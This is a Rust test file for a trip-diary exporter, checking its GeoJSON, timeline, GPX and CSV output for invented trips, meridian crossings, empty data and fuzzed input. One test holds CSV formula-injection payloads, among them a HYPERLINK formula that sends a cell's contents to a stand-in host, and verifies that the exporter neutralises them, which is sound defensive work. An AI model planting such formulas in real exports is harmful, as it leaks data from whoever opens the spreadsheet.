//! Each format, for an invented day.

#[path = "support/days.rs"]
mod days;
mod support;

use cells_sdk::Area;
use cells_sdk::testing::Memory;
use proptest::prelude::*;
use quick_xml::Reader;
use quick_xml::events::Event;
use runtime_diary::{Format, Written, write};
use serde_json::{Value, json};
use support::InMemory;

const DAY: f64 = 1_700_000_000.0;

fn id(number: u32) -> Value {
    json!({"$oid": format!("{number:024x}")})
}

fn hex(number: u32) -> String {
    format!("{number:024x}")
}

fn point(longitude: f64, latitude: f64) -> Value {
    json!({"type": "Point", "coordinates": [longitude, latitude]})
}

fn time(ts: f64) -> String {
    cells_model::time::local(ts, "Europe/Zurich").expect("sound").1
}

#[derive(Default)]
struct Day {
    memory: Memory,
    /// The distance from the last point of a ride to its end, degrees.
    gap: f64,
}

impl Day {
    fn entry(mut self, number: u32, key: &str, data: Value) -> Self {
        let dump = json!([{"_id": id(number), "metadata": {"key": key, "write_ts": 1.5}, "data": data}]);
        self.memory = self.memory.with_entries(Area::Timeseries, &dump.to_string());
        self
    }

    /// A trip of 600 s between two places, with a ride of three points and a walk of one.
    fn trip(self, number: u32, start: f64, user_input: Value) -> Self {
        let (start, end) = (DAY + start, DAY + start + 600.0);
        let [from, to, stop, ride, walk, mode] = [1, 2, 3, 4, 5, 6].map(|part| number * 100 + part);
        let trip = json!({
            "start_ts": start, "end_ts": end, "start_fmt_time": time(start), "end_fmt_time": time(end),
            "start_place": id(from), "end_place": id(to), "cleaned_trip": id(number + 1),
            "start_loc": point(8.0, 47.0), "end_loc": point(8.1, 47.1), "distance": 1_500.5, "duration": 600.0,
            "inferred_section_summary": {"distance": {"WALKING": 250.25, "TRAM": 1_250.25}},
            "user_input": user_input,
        });
        let gap = self.gap;
        let section = |from: f64, to: f64, mode: u8, metres: f64| {
            json!({
                "trip_id": id(number + 1), "start_ts": start + from, "end_ts": start + to, "sensed_mode": mode,
                "start_loc": point(8.0, 47.0), "end_loc": point(8.0 + to / 6_000.0 + gap, 47.1),
                "distance": metres, "speeds": [0.0], "distances": [0.0],
            })
        };
        let mut inferred = section(0.0, 400.0, 8, 1_250.25);
        inferred["cleaned_section"] = id(ride);
        let mut day = self
            .entry(number, "analysis/confirmed_trip", trip)
            .entry(
                from,
                "analysis/confirmed_place",
                json!({"exit_ts": start, "location": point(8.01, 47.01)}),
            )
            .entry(to, "analysis/confirmed_place", json!({"enter_ts": end, "location": point(8.11, 47.11)}))
            .entry(
                stop,
                "analysis/cleaned_stop",
                json!({
                    "trip_id": id(number + 1), "enter_ts": start + 400.0, "exit_ts": start + 500.0,
                    "enter_loc": point(8.05, 47.1), "exit_loc": point(8.06, 47.1),
                }),
            )
            .entry(ride, "analysis/cleaned_section", section(0.0, 400.0, 0, 1_250.25))
            .entry(walk, "analysis/cleaned_section", section(500.0, 600.0, 7, 250.25))
            .entry(mode, "analysis/inferred_section", inferred);
        for (part, (ts, altitude)) in
            (10..).zip([(0.0, Some(400.5)), (200.0, None), (400.0, Some(402.0)), (600.0, None)])
        {
            let longitude = 8.0 + ts / 6_000.0;
            let mut data = json!({"ts": start + ts, "loc": point(longitude, 47.1)});
            if let Some(altitude) = altitude {
                data["altitude"] = f64::into(altitude);
            }
            day = day.entry(number * 100 + part, "analysis/recreated_location", data);
        }
        day
    }

    fn written(&self, format: Format, from: f64, to: f64) -> (String, Written) {
        let mut out = Vec::new();
        let written = write(&mut InMemory(&self.memory), format, from, to, &mut out).expect("it is written");
        (String::from_utf8(out).expect("a text"), written)
    }

    fn all(&self, format: Format) -> String {
        self.written(format, f64::NEG_INFINITY, f64::INFINITY).0
    }

    fn json(&self, format: Format) -> Value {
        serde_json::from_str(&self.all(format)).expect("JSON")
    }
}

fn day() -> Day {
    Day::default().trip(1_000, 100.0, json!({})).trip(
        2_000,
        5_000.0,
        json!({"mode_confirm": "tram, 2 stops"}),
    )
}

/// Fails on anything that RFC 7946 does not allow in a feature.
fn check_feature(feature: &Value) {
    assert_eq!(feature["type"], "Feature");
    assert!(feature["id"].is_string() && feature["properties"].is_object(), "{feature}");
    let coordinates = &feature["geometry"]["coordinates"];
    match feature["geometry"]["type"].as_str() {
        None => assert!(feature["geometry"].is_null(), "{feature}"),
        Some("Point") => drop(position(coordinates)),
        Some("LineString") => check_line(coordinates),
        Some("MultiLineString") => {
            let lines = coordinates.as_array().expect("a list");
            assert!(lines.len() >= 2, "{feature}");
            lines.iter().for_each(check_line);
        }
        Some(other) => panic!("{other}"),
    }
}

/// A position on the globe.
fn position(value: &Value) -> [f64; 2] {
    let numbers: Vec<f64> = value.as_array().expect("a list").iter().filter_map(Value::as_f64).collect();
    let ([longitude, latitude] | [longitude, latitude, _]) = numbers[..] else { panic!("{value}") };
    assert!(longitude.abs() <= 180.0 && latitude.abs() <= 90.0, "{value}");
    [longitude, latitude]
}

/// Fails on a line without length, and on one around the world.
fn check_line(line: &Value) {
    let line: Vec<[f64; 2]> = line.as_array().expect("a list").iter().map(position).collect();
    assert!(line.iter().any(|other| *other != line[0]), "{line:?}");
    assert!(line.windows(2).all(|pair| (pair[0][0] - pair[1][0]).abs() <= 180.0), "{line:?}");
}

#[test]
fn geojson_is_one_flat_collection_in_which_each_part_names_its_trip() {
    let shown = day().json(Format::Geojson);
    assert_eq!(shown["type"], "FeatureCollection");
    let features = shown["features"].as_array().expect("a list");
    features.iter().for_each(check_feature);
    let kinds: Vec<_> = features[..6]
        .iter()
        .map(|feature| feature["properties"]["feature_type"].as_str().expect("a text"))
        .collect();
    assert_eq!(kinds, ["trip", "start_place", "end_place", "stop", "section", "section"]);
    assert_eq!(features.len(), 12);
    for (feature, trip) in features.iter().zip([[1_000; 6], [2_000; 6]].concat()) {
        let of_trip = feature["properties"]["feature_type"] == "trip";
        let named = if of_trip { &feature["id"] } else { &feature["properties"]["trip"] };
        assert_eq!(*named, hex(trip));
    }
    let ride = &features[4];
    assert_eq!(ride["geometry"]["coordinates"].as_array().map(Vec::len), Some(3));
    assert_eq!(ride["properties"]["sensed_mode"], "PredictedModeTypes.TRAM");
    assert_eq!(ride["properties"]["timestamps"][1], json!(1_700_000_300_000_u64));
    assert_eq!(features[5]["geometry"], point(8.1, 47.1));
    assert_eq!(features[5]["properties"]["mode"], "WALKING");
}

#[test]
fn the_timeline_is_a_collection_for_each_trip() {
    let shown = day().json(Format::Timeline);
    let trips = shown.as_array().expect("a list");
    assert_eq!(trips.len(), 2);
    assert_eq!(trips[0]["features"].as_array().map(Vec::len), Some(5));
    assert_eq!(trips[0]["features"][3]["type"], "FeatureCollection");
    assert_eq!(trips[0]["properties"]["feature_type"], "trip");
}

// Row: "The timeline shows incidents"
#[test]
fn what_its_owner_reports_on_the_way_stands_with_the_trip() {
    let stress = |ts: f64| json!({"ts": DAY + ts, "loc": point(8.2, 47.2), "stress": 80});
    let day = day().entry(1, "manual/incident", stress(150.0)).entry(2, "manual/incident", stress(900.0));
    let shown = day.json(Format::Timeline);
    let features = shown[0]["features"].as_array().expect("a list");
    let incident = &features[5];
    assert_eq!((features.len(), &incident["id"]), (6, &json!(hex(1))));
    assert_eq!((&incident["geometry"], &incident["properties"]["stress"]), (&point(8.2, 47.2), &json!(80)));
}

// Row: "The timeline shows incidents"
#[test]
fn a_place_that_is_gone_leaves_out_its_feature() {
    let mut day = Day::default().trip(1_000, 100.0, json!({}));
    let end_place = serde_json::from_value(id(100_002)).expect("an id");
    cells_sdk::WriteEntries::delete(&mut day.memory, &[end_place]).expect("known");
    day.memory.commit();
    let shown = day.json(Format::Timeline);
    let features = shown[0]["features"].as_array().expect("a list");
    let kinds: Vec<_> = features.iter().map(|feature| &feature["properties"]["feature_type"]).collect();
    assert_eq!(kinds[..2], ["start_place", "stop"]);
    assert_eq!(features.len(), 4);
}

#[test]
fn a_section_whose_end_was_moved_is_closed_by_the_reading_from_there() {
    let line = |gap: f64| {
        let reading = json!({"ts": DAY + 500.0, "loc": point(8.07, 47.1)});
        let day = Day { gap, ..Day::default() }.entry(77, "background/filtered_location", reading);
        let shown = day.trip(1_000, 100.0, json!({})).json(Format::Geojson);
        shown["features"][4]["geometry"]["coordinates"].as_array().expect("a line").clone()
    };
    assert_eq!(line(0.000_01).len(), 3, "it ends there, to ten metres");
    let closed = line(0.01);
    assert_eq!((closed.len(), &closed[3]), (4, &json!([8.07, 47.1])));
}

#[test]
fn gpx_has_a_track_for_each_trip_and_a_segment_for_each_section() {
    let text = day().all(Format::Gpx);
    let mut reader = Reader::from_str(&text);
    let (mut path, mut seen, mut points) = (Vec::new(), Vec::new(), Vec::new());
    loop {
        match reader.read_event().expect("sound XML") {
            Event::Start(start) => {
                let name = start.name().as_ref().to_owned();
                if name == "trkpt" {
                    let of = |name: &str| {
                        let value = start.try_get_attribute(name).expect("sound").expect("there");
                        value.value.into_owned()
                    };
                    points.push((of("lat"), of("lon")));
                }
                path.push(name);
            }
            Event::End(_) => drop(path.pop()),
            Event::Text(text) if !text.as_ref().trim().is_empty() => {
                seen.push((path.join("/"), text.as_ref().to_owned()));
            }
            Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!((points.len(), &points[1]), (8, &("47.1".to_owned(), "8.033333333333333".to_owned())));
    let of = |wanted: &str| {
        seen.iter().filter(|(path, _)| path == wanted).map(|(_, text)| text.as_str()).collect::<Vec<_>>()
    };
    assert_eq!(of("gpx/trk/name")[0], "2023-11-14T23:15:00+01:00 to 2023-11-14T23:25:00+01:00");
    assert_eq!(of("gpx/trk/desc")[0], "TRAM 1.25 km, WALKING 0.25 km");
    assert_eq!(
        of("gpx/trk/trkseg/trkpt/time")[..2],
        ["2023-11-14T22:15:00.000Z", "2023-11-14T22:18:20.000Z"]
    );
    assert_eq!(of("gpx/trk/trkseg/trkpt/ele"), ["400.5", "402", "400.5", "402"]);
    // The walk has one point, which ends the segment of the ride.
    assert_eq!(text.matches("<trkseg>").count(), 2);
    assert!(text.contains(r#"version="1.1" creator="Cellar" xmlns="http://www.topografix.com/GPX/1/1""#));
    // The inferred mode, unless the owner has confirmed one.
    assert_eq!(of("gpx/trk/type"), ["TRAM", "tram, 2 stops"]);
    assert_eq!(of("gpx/trk/desc")[1], "TRAM 1.25 km, WALKING 0.25 km; mode confirm: tram, 2 stops");
    assert_eq!(of("gpx/trk/extensions/cellar:main_mode"), ["TRAM", "TRAM"]);
    assert_eq!(of("gpx/trk/extensions/cellar:mode_confirm"), ["tram, 2 stops"]);
    assert_eq!(of("gpx/trk/trkseg/extensions/cellar:mode"), ["TRAM", "TRAM"]);
}

#[test]
fn csv_has_a_line_for_each_trip_with_its_modes_and_labels() {
    let label = "tram, \"fast\"\nand late";
    let form = json!({"_id": id(9), "data": {"label": "2 people", "xmlResponse": "<a/>"}});
    let input = json!({"mode_confirm": label, "trip_user_input": form});
    let text = Day::default().trip(1_000, 100.0, input).all(Format::Csv);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let heading = reader.headers().expect("there").clone();
    let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("sound");
    assert_eq!(rows.len(), 1);
    let of = |name: &str| {
        rows[0].get(heading.iter().position(|column| column == name).expect("a column")).expect("a field")
    };
    assert_eq!(of("start_time"), "2023-11-14T22:15:00.000000Z");
    assert_eq!((of("start_local_time"), of("start_time_zone")), ("2023-11-14T23:15:00.000000", ""));
    assert_eq!((of("start_latitude"), of("start_longitude")), ("47.01", "8.01"));
    assert_eq!((of("end_latitude"), of("end_longitude")), ("47.11", "8.11"));
    assert_eq!((of("distance_m"), of("duration_s")), ("1500.5", "600"));
    assert_eq!((of("main_mode"), of("modes_m")), ("TRAM", "TRAM 1250; WALKING 250"));
    assert_eq!((of("mode_confirm"), of("purpose_confirm"), of("trip_user_input")), (label, "", "2 people"));
    assert_eq!(of("trip"), hex(1_000));
}

#[test]
fn csv_has_no_cell_of_text_that_a_spreadsheet_would_take_for_a_formula() {
    let cells = [
        ("=HYPERLINK(\"http://x.example/\"&A1)", "'=HYPERLINK(\"http://x.example/\"&A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t1", "'\t1"),
        ("\r1", "'\r1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("a=1", "a=1"),
        ("nul\u{0}", "nul"),
    ];
    for (label, want) in cells {
        let mut day = Day::default().trip(1_000, 100.0, json!({"purpose_confirm": label}));
        let summary = json!({"distance": {label: 5.0}});
        let mut trip = day.memory.of_key("analysis/confirmed_trip")[0].data();
        trip["inferred_section_summary"] = summary;
        trip["start_local_dt"] = json!({"timezone": label});
        trip["start_loc"] = point(-8.5, -47.0);
        trip["start_place"] = Value::Null;
        day = Day::default().entry(1, "analysis/confirmed_trip", trip);
        let text = day.all(Format::Csv);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let heading = reader.headers().expect("there").clone();
        let row = reader.records().next().expect("a trip").expect("sound");
        let of = |name: &str| row.get(heading.iter().position(|column| column == name).expect("a column"));
        assert_eq!((of("purpose_confirm"), of("main_mode")), (Some(want), Some(want)));
        assert_eq!((of("start_time_zone"), of("modes_m")), (Some(want), Some(&*format!("{want} 5"))));
        assert_eq!(
            (of("start_longitude"), of("start_latitude")),
            (Some("-8.5"), Some("-47")),
            "numbers stay"
        );
    }
}

#[test]
fn what_has_no_length_is_a_point() {
    let at = point(8.05, 47.1);
    let stop = json!({"trip_id": id(1_001), "enter_ts": DAY + 520.0, "exit_ts": DAY + 530.0, "enter_loc": at, "exit_loc": at});
    let mut day = Day::default().trip(1_000, 100.0, json!({})).entry(7, "analysis/cleaned_stop", stop);
    for (number, ts) in [(8, 650.0), (9, 690.0)] {
        day = day.entry(
            number,
            "analysis/recreated_location",
            json!({"ts": DAY + ts, "loc": point(8.1, 47.1)}),
        );
    }
    let shown = day.json(Format::Geojson);
    let features = shown["features"].as_array().expect("a list");
    features.iter().for_each(check_feature);
    assert_eq!((&features[4]["properties"]["feature_type"], &features[4]["geometry"]), (&json!("stop"), &at));
    // Three points at one place: a walk without movement.
    let walk = &features[6];
    assert_eq!((&walk["properties"]["mode"], &walk["geometry"]), (&json!("WALKING"), &point(8.1, 47.1)));
    assert_eq!(walk["properties"]["times"].as_array().map(Vec::len), Some(3));
    // The reference's own form keeps its lines.
    assert_eq!(day.json(Format::Timeline)[0]["features"][3]["geometry"]["type"], "LineString");
}

// Row: "A line over the 180th meridian"
#[test]
fn a_line_over_the_180th_meridian_is_cut_there_and_has_a_time_for_each_position() {
    let mut day = Day::default();
    for entry in Day::default().trip(1_000, 100.0, json!({})).memory.entries(Area::Timeseries) {
        // The day lies between 8 and 8.11 degrees; the cut at 8.05.
        let mut data = entry.data();
        for name in ["loc", "start_loc", "end_loc", "enter_loc", "exit_loc", "location"] {
            if let Some(longitude) = data.get(name).and_then(|loc| loc["coordinates"][0].as_f64()) {
                data[name]["coordinates"][0] = json!(cells_geometry::wrapped(longitude + 171.95));
            }
        }
        let number = u32::from_str_radix(&entry.id.to_string(), 16).expect("small");
        day = day.entry(number, &entry.key, data);
    }
    for format in [Format::Geojson, Format::Timeline] {
        let shown = day.json(format);
        let ride = match format {
            Format::Geojson => &shown["features"][4],
            _ => &shown[0]["features"][3]["features"][0],
        };
        check_feature(ride);
        assert_eq!(ride["geometry"]["type"], "MultiLineString");
        let lines = ride["geometry"]["coordinates"].as_array().expect("a list");
        assert_eq!(lines.iter().map(|line| line.as_array().map_or(0, Vec::len)).collect::<Vec<_>>(), [3, 2]);
        assert_eq!((&lines[0][2], &lines[1][0]), (&json!([180.0, 47.1]), &json!([-180.0, 47.1])));
        let times: Vec<f64> = serde_json::from_value(ride["properties"]["times"].clone()).expect("numbers");
        let start = DAY + 100.0;
        let want = [0.0, 200.0, 300.0, 300.0, 400.0].map(|seconds| start + seconds);
        assert!(times.iter().zip(want).all(|(time, want)| (time - want).abs() < 1e-3), "{times:?}");
        assert_eq!(times.len(), want.len());
    }
    let text = day.all(Format::Gpx);
    assert_eq!((text.matches("<trkseg>").count(), text.matches("lon=\"180").count()), (2, 0), "{text}");
    assert!(text.contains("lon=\"179.9999999\"") && text.contains("lon=\"-180\""), "{text}");
}

#[test]
fn a_trip_without_points_is_drawn_from_its_start_to_its_end() {
    let mut day = Day::default();
    for entry in Day::default().trip(1_000, 100.0, json!({})).memory.entries(Area::Timeseries) {
        if entry.key == "analysis/confirmed_trip" {
            day = day.entry(1_000, &entry.key, entry.data());
        }
    }
    let text = day.all(Format::Gpx);
    assert_eq!((text.matches("<trkseg>").count(), text.matches("<trkpt").count()), (1, 2), "{text}");
    assert!(text.contains(r#"<trkpt lat="47" lon="8">"#) && text.contains(r#"<trkpt lat="47.1" lon="8.1">"#));
}

#[test]
fn only_trips_that_begin_within_the_span_are_written() {
    let day = day();
    for (from, to, trips) in [(0.0, 99.0, 0), (100.0, 100.0, 1), (100.0, 5_000.0, 2), (101.0, 1e9, 1)] {
        let (_, written) = day.written(Format::Csv, DAY + from, DAY + to);
        assert_eq!(written.trips, trips, "{from} to {to}");
    }
}

#[test]
fn nobody_has_been_anywhere_and_each_form_is_whole() {
    let nobody = Day::default();
    assert_eq!(nobody.json(Format::Geojson), json!({"type": "FeatureCollection", "features": []}));
    assert_eq!(nobody.json(Format::Timeline), json!([]));
    assert_eq!(nobody.all(Format::Csv).lines().count(), 1);
    assert!(nobody.all(Format::Gpx).trim_end().ends_with("</gpx>"));
}

#[test]
fn a_full_disk_is_told() {
    let mut small = [0; 100];
    let day = day();
    let failed = write(&mut InMemory(&day.memory), Format::Geojson, 0.0, f64::INFINITY, &mut small[..]);
    assert_eq!(failed.expect_err("it does not fit").to_string(), "the diary cannot be written");
}

/// Possible values of a member of an imported entry.
fn odd() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(json!(null)),
        Just(json!("]]><&\u{0}")),
        Just(json!(1e300)),
        Just(json!(-5)),
        Just(json!([])),
        Just(json!({})),
        Just(id(7)),
        Just(point(1e300, -1e300)),
        Just(json!({"coordinates": [1]})),
        Just(json!({"distance": {"A": "b"}})),
    ]
}

proptest! {
    #[test]
    fn every_diary_has_valid_geometries_and_one_form_of_time(trips in days::trips()) {
        let day = Day { memory: days::memory(&trips), ..Day::default() };
        let shown = day.json(Format::Geojson);
        shown["features"].as_array().expect("a list").iter().for_each(check_feature);
        let table = day.all(Format::Csv);
        let mut reader = csv::Reader::from_reader(table.as_bytes());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("sound");
        prop_assert_eq!(rows.len(), trips.len());
        for row in &rows {
            for (column, form) in [(0, "dddd-dd-ddTdd:dd:dd.ddddddZ"), (2, "dddd-dd-ddTdd:dd:dd.dddddd")] {
                for cell in row.iter().skip(column).take(2) {
                    let digits = |letter: char| if letter.is_ascii_digit() { 'd' } else { letter };
                    prop_assert_eq!(cell.chars().map(digits).collect::<String>(), form);
                }
            }
        }
        let text = day.all(Format::Gpx);
        prop_assert_eq!(text.matches("<trk>").count(), trips.len());
        prop_assert!(text.matches("<trkseg>").count() >= trips.len());
        for segment in text.split("<trkseg>").skip(1) {
            let segment = segment.split("</trkseg>").next().expect("its end");
            prop_assert!(segment.matches("<trkpt").count() >= 2, "{}", segment);
        }
    }

    #[test]
    fn no_entry_makes_an_export_panic_and_what_is_written_can_be_read(
        members in prop::collection::vec((0..22_usize, 0..5_usize, odd()), 0..12)
    ) {
        const NAMES: [&str; 22] = [
            "end_ts", "start_place", "end_place", "cleaned_trip", "user_input", "inferred_section_summary", "distance",
            "duration", "start_fmt_time", "location", "enter_loc", "exit_loc", "trip_id", "end_loc", "sensed_mode",
            "cleaned_section", "loc", "altitude", "start_loc", "mode_confirm", "speeds", "source",
        ];
        const KEYS: [&str; 5] = [
            "analysis/confirmed_trip", "analysis/confirmed_place", "analysis/cleaned_section", "analysis/cleaned_stop",
            "analysis/recreated_location",
        ];
        let mut entries = [
            json!({"start_ts": DAY, "end_ts": DAY + 9.0, "start_place": id(2), "end_place": id(2), "cleaned_trip": id(7)}),
            json!({"enter_ts": DAY}),
            json!({"start_ts": DAY, "end_ts": DAY + 9.0, "trip_id": id(7)}),
            json!({"enter_ts": DAY, "trip_id": id(7)}),
            json!({"ts": DAY, "loc": point(8.0, 47.0)}),
        ];
        for (name, entry, value) in members {
            entries[entry][NAMES[name]] = value;
        }
        let mut day = Day::default();
        for (number, (key, data)) in (1..).zip(KEYS.into_iter().zip(entries)) {
            day = day.entry(number, key, data);
        }
        day.json(Format::Geojson);
        day.json(Format::Timeline);
        let table = day.all(Format::Csv);
        prop_assert!(csv::Reader::from_reader(table.as_bytes()).records().all(|row| row.is_ok()));
        let text = day.all(Format::Gpx);
        let mut reader = Reader::from_str(&text);
        while reader.read_event().expect("sound XML") != Event::Eof {}
    }
}
